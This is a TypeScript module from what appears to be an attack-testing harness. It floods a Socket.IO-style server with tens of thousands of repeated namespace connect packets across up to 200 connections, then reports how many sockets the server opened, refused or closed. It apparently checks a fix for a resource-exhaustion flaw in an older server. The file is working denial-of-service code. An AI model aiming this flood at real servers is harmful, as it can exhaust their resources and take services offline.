import { before, sleep, spread, type Attack } from '../attack-kit.ts';
import { connectionAfterConnection, type RawEngine } from '../raw-engine-socket.ts';

const NAMESPACE_PACKET = '40/robots,';
const MAX_CONNECTIONS = 200;
const PACKETS_PER_CONNECTION = 50_000;
/** Sent back to back; between batches the server's close, if any, is read. */
const BATCH = 200;
const CLOSE_WAIT_MS = 2000;

interface Flooded {
  sent: number;
  closedByServer: boolean;
  /** Namespace sockets the server opened (`40/robots,{"sid":...}`) and refused (`44/robots,`). */
  opened: number;
  refused: number;
}

const yieldToIo = () => new Promise((resolve) => setImmediate(resolve));

async function flood(engine: RawEngine, deadline: number): Promise<Flooded> {
  let sent = 0;
  while (sent < PACKETS_PER_CONNECTION && engine.isOpen() && before(deadline)) {
    for (let i = 0; i < BATCH && engine.isOpen(); i++, sent++) engine.ws.send(NAMESPACE_PACKET);
    await yieldToIo();
  }
  const closedByServer = await Promise.race([engine.closed.then(() => true), sleep(CLOSE_WAIT_MS).then(() => false)]);
  engine.ws.terminate();
  const opened = engine.texts.filter((t) => t.startsWith(`${NAMESPACE_PACKET}{`)).length;
  const refused = engine.texts.filter((t) => t.startsWith('44/robots,')).length;
  return { sent, closedByServer, opened, refused };
}

/**
 * Each repeat of a namespace's connect packet opened another socket, with a fresh message
 * budget, on the old server. Floods it on one connection after another, reconnecting when closed.
 */
export const namespaceRepeat: Attack = async ({ port, deadline }) => {
  const { results, refusals } = await connectionAfterConnection(port, deadline, MAX_CONNECTIONS, (engine) => flood(engine, deadline));
  const closed = results.filter((r) => r.closedByServer);
  return [
    `connections opened: ${results.length}; handshakes refused: ${refusals}`,
    `the server closed ${closed.length} of them; packets written before the close was seen (${BATCH} at a time): ${spread(closed.map((r) => r.sent))}`,
    `packets sent on connections it did not close: ${spread(results.filter((r) => !r.closedByServer).map((r) => r.sent))}`,
    `namespace sockets the server opened per connection: ${spread(results.map((r) => r.opened))}; ${results.reduce((n, r) => n + r.opened, 0)} in all`,
    `namespace connects it refused (44): ${results.reduce((n, r) => n + r.refused, 0)}`,
  ];
};
